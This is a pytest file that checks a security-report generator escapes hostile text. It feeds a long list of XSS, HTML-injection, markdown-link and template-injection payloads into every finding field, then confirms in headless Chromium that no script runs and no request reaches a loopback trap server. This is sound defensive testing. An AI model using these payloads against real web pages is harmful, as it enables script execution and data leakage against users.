"""XSS: hostile text in every field of every finding type, opened in real headless Chromium.

Each payload is put into every text field of a SAST, a DAST and an audit
finding (and the audit, scan and gate fields around them, and file names of
the release). The report is built through the real pipeline (signed
evidence, verified), then ``index.html`` is opened in Debian's Chromium,
driven by Playwright pointed at the system browser (no browser download):
no dialog, no script element or event handler, no request other than the page
itself, nothing reaching a loopback server the payloads point to. The same
holds with the CSP meta tag removed, so escaping alone is enough. The
screenshot is saved to ``build/test-artifacts/`` to be looked at.
"""

from __future__ import annotations

import http.server
import os
import shutil
import threading
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from helpers import REPO
from report import reportkit as kit

from nebsign.keys import PrivateKey
from nebsign.policy.trust import TrustPolicy
from nebsign.report.publish import build_report_dir

CHROMIUM = os.environ.get("NEBSIGN_CHROMIUM") or shutil.which("chromium") or "/usr/bin/chromium"
ARTIFACTS = REPO / "build" / "test-artifacts"
LEAK = "http://127.0.0.1:{port}"

PAYLOADS = [
    "<script>alert(1)</script>",
    '<script src="{leak}/s.js"></script>',
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '<img src="{leak}/img.png">',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text y="20">x</text></a></svg>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<math href="javascript:alert(1)">x</math>',
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="{leak}/o"></object><embed src="{leak}/e">',
    '<link rel=stylesheet href="{leak}/c.css">',
    '<style>@import "{leak}/i.css"; body{{background:url({leak}/bg)}}</style>',
    '<div style="background:url({leak}/st)">x</div>',
    '<a href="javascript:alert(1)">click</a>',
    "[click](javascript:alert(1))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![x]({leak}/md.png)",
    "<{leak}/autolink>",
    "[x]: {leak}/ref\n\n[y][x]",
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    '" onmouseover="alert(1)" x="',
    "' onfocus='alert(1)' autofocus '",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    '<base href="{leak}/">',
    '<meta http-equiv="refresh" content="0;url={leak}/refresh">',
    '<form action="{leak}/f"><button>x</button></form>',
    "{{{{ 7*7 }}}}{{{{ config }}}}{{% raw %}}",
    "${{7*7}}<%= 7*7 %>#{{7*7}}",
    "<!--<script>alert(1)//-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "\u202eexe.txt\u202c harmless",
    "\u2066isolate\u2069 \u200bzero\u200dwidth\ufeff",
    "\uff4a\uff41\uff56\uff41\uff53\uff43\uff52\uff49\uff50\uff54\uff1aalert(1)",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#x3C;script&#x3E;alert(1)&#x3C;/script&#x3E;",
    "<scr<script>ipt>alert(1)</script>",
    "\x00<script>alert(1)</script>\x1b[31m",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "# heading\n\n<h1>big</h1>\n| a | b |\n|---|---|",
    "`code` **bold** <b>b</b> ___",
    "\r\n\r\n## injected heading\n---",
    "https://evil.example/x?y=<script>alert(1)</script>",
    "www.evil.example and user@evil.example",
    '<a href="{leak}/phish" target=_blank>official fix</a>',
    "<template><script>alert(1)</script></template>",
    '<portal src="{leak}/portal"></portal><audio src="{leak}/a">',
]


class _Trap(http.server.BaseHTTPRequestHandler):
    hits: list[str] = []

    def do_GET(self) -> None:
        _Trap.hits.append(self.path)
        self.send_response(200)
        self.send_header("Content-Type", "text/plain")
        self.end_headers()
        self.wfile.write(b"alert(1)")

    def log_message(self, *args: Any) -> None:
        pass


@pytest.fixture
def trap() -> Iterator[tuple[str, list[str]]]:
    """A real HTTP server on loopback that every payload URL points to."""
    _Trap.hits = []
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), _Trap)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield LEAK.format(port=server.server_address[1]), _Trap.hits
    finally:
        server.shutdown()
        server.server_close()


def _chromium_or_skip() -> None:
    have = os.path.exists(CHROMIUM)
    try:
        import playwright.sync_api  # noqa: F401
    except ImportError:
        have = False
    if not have:
        if os.environ.get("NEBSIGN_REQUIRE_TOOLS"):
            pytest.fail("chromium or playwright missing (scripts/ensure-chromium.sh, [report])")
        pytest.skip("chromium or playwright not installed")


def _hostile_finding(source: str, n: int, text: str) -> dict[str, Any]:
    loc: dict[str, Any] = (
        {"url": text, "parameter": text, "method": text}
        if source == "dast"
        else {"path": text, "line": n + 1}
    )
    return kit.finding(
        source,
        n,
        tool=text,
        rule_id=text,
        title=text,
        message=text,
        recommendation=text,
        location=loc,
        cwe=[text],
        swc=[text],
        snippet=text,
        fingerprint="",
        status=["open", "acknowledged", "fixed", "accepted-risk"][n % 4],
        status_note={"who": text, "why": text, "until": "2027-01-01"},
        properties={
            "firm_id": text,
            "original_severity": text,
            "original_status": text,
            "fix_refs": [text, "https://fix.example.com/c/1"],
        },
    )


def _hostile_release(root: Path, key: PrivateKey, payloads: list[str]) -> Path:
    findings: dict[str, list[dict[str, Any]]] = {"sast": [], "dast": [], "audit": []}
    for n, text in enumerate(payloads):
        for source, items in findings.items():
            items.append(_hostile_finding(source, n, text))
    worst = payloads[0]
    sast_t, sast_p = kit.sast(findings["sast"])
    dast_t, dast_p = kit.dast(findings["dast"])
    audit_t, audit_p = kit.audit(
        findings["audit"],
        auditor=worst,
        report={"title": payloads[1], "url": "javascript:alert(1)"},
        dates={"audit": payloads[2], "fix_review": payloads[3]},
        repository=payloads[7],
        commit=payloads[9],
        scope=[{"path": t, "sha1": t, "weak": True} for t in payloads[:10]],
        coverage={"uncovered": payloads[10:14], "drifted": payloads[14:16]},
    )
    gate_t, gate_p = kit.gate()
    gate_p["gate"] = payloads[11]
    gate_p["metrics"][0].update(name=payloads[12], reason=payloads[13], verdict=payloads[14])
    for pred in (sast_p, dast_p, audit_p, gate_p):
        pred["reason"] = payloads[15]
        pred["tools"] = {payloads[16]: payloads[17]}
    dast_p["target"] = payloads[18]
    dast_p["anomalies"] = [payloads[19]]
    files = {"app/main.py": b"x = 1\n"}
    for n, text in enumerate(payloads[:20]):
        if "/" not in text and "\x00" not in text and text.strip() and len(text) < 200:
            files[f"files/{n}-{text}"] = text.encode()
    return kit.make_release(
        root,
        key,
        [(sast_t, sast_p), (dast_t, dast_p), (audit_t, audit_p), (gate_t, gate_p)],
        payload=files,
    )


_INSPECT = """() => ({
  xss: window.__xss === 1,
  scripts: document.querySelectorAll('script').length,
  handlers: [...document.querySelectorAll('*')].filter(
      e => [...e.attributes].some(a => a.name.toLowerCase().startsWith('on'))).length,
  active: document.querySelectorAll(
      'iframe,object,embed,img,form,base,link,input,video,audio,source,math,details,portal,'
      + 'template,noscript,meta[http-equiv=refresh],style:not(head style)').length,
  svgs: document.querySelectorAll('svg').length,
  hrefs: [...document.querySelectorAll('[href]')].map(a => a.getAttribute('href')),
  external_links_without_rel: [...document.querySelectorAll('a[href^="http"]')].filter(
      a => a.getAttribute('rel') !== 'nofollow noopener noreferrer').length,
  xlinks: document.querySelectorAll('[*|href]:not([href])').length,
  h1: document.querySelectorAll('h1').length,
  findings: document.querySelectorAll('article.finding').length,
})"""


def _open(page_file: Path, shot: Path | None) -> tuple[dict[str, Any], list[str], list[str]]:
    from playwright.sync_api import sync_playwright

    requests: list[str] = []
    dialogs: list[str] = []
    with sync_playwright() as p:
        browser = p.chromium.launch(
            executable_path=CHROMIUM, args=["--no-sandbox", "--disable-gpu"]
        )
        try:
            page = browser.new_page(viewport={"width": 1200, "height": 1600})
            page.on("request", lambda r: requests.append(r.url))
            page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
            page.goto(page_file.as_uri(), wait_until="load")
            page.wait_for_timeout(300)
            page.mouse.move(300, 300)
            page.keyboard.press("Tab")
            page.wait_for_timeout(200)
            found = page.evaluate(_INSPECT)
            if shot is not None:
                page.screenshot(path=str(shot), full_page=False)
                page.evaluate("document.getElementById('findings').scrollIntoView()")
                page.screenshot(path=str(shot.with_suffix(".findings.png")))
        finally:
            browser.close()
    return found, requests, dialogs


def test_no_script_runs_and_nothing_is_fetched(
    tmp_path: Path, key: PrivateKey, trap: tuple[str, list[str]]
) -> None:
    _chromium_or_skip()
    leak, hits = trap
    payloads = [p.format(leak=leak) for p in PAYLOADS]
    assert len(payloads) >= 40
    release = _hostile_release(tmp_path / "rel", key, payloads)
    out = tmp_path / "report"
    result = build_report_dir(
        release, out, policy=TrustPolicy.from_keys([key.public_key()]), key=key
    )
    n_findings = result.doc["summary"]["total"]
    assert n_findings == 3 * len(payloads)
    html = (out / "index.html").read_text(encoding="utf-8")
    stripped = tmp_path / "no-csp.html"
    csp_line = html.split("\n", 4)[3]
    assert csp_line.startswith('<meta http-equiv="Content-Security-Policy"')
    stripped.write_text(html.replace(csp_line + "\n", ""), encoding="utf-8")
    ARTIFACTS.mkdir(parents=True, exist_ok=True)
    for page_file, shot in ((out / "index.html", ARTIFACTS / "report-xss.png"), (stripped, None)):
        found, requests, dialogs = _open(page_file, shot)
        assert dialogs == [], dialogs
        assert requests == [page_file.as_uri()], requests
        assert found["xss"] is False and found["scripts"] == 0 and found["handlers"] == 0
        assert found["active"] == 0, found
        assert found["svgs"] == 1  # our chart; no payload SVG became an element
        assert found["xlinks"] == 0
        assert found["h1"] == 1 and found["findings"] == n_findings
        for href in found["hrefs"]:  # links only (never loaded), and only http(s)
            assert href.startswith(("#", "https://", "http://")), href
            assert "javascript" not in href.lower() and "data:" not in href.lower()
        assert found["external_links_without_rel"] == 0
    assert hits == [], hits


def test_markdown_output_stays_text(tmp_path: Path, key: PrivateKey) -> None:
    """report.md of the same hostile release: rendered, no link, image, HTML or extra heading."""
    from markdown_it import MarkdownIt

    payloads = [p.format(leak="http://127.0.0.1:9") for p in PAYLOADS]
    release = _hostile_release(tmp_path / "rel", key, payloads)
    out = tmp_path / "report"
    result = build_report_dir(
        release, out, policy=TrustPolicy.from_keys([key.public_key()]), key=key
    )
    md = (out / "report.md").read_text(encoding="utf-8")
    html = MarkdownIt("commonmark", {"html": True}).enable("table").render(md)
    for tag in ("<a ", "<img", "<script", "<iframe", "<svg", "<math", "<style", "<b>", "<h1>big"):
        assert tag not in html, tag
    assert html.count("<h1>") == 1
    assert html.count("<h4>") == result.doc["summary"]["total"]
    assert "<hr" in html and html.count("<hr") == 1  # only the footer rule
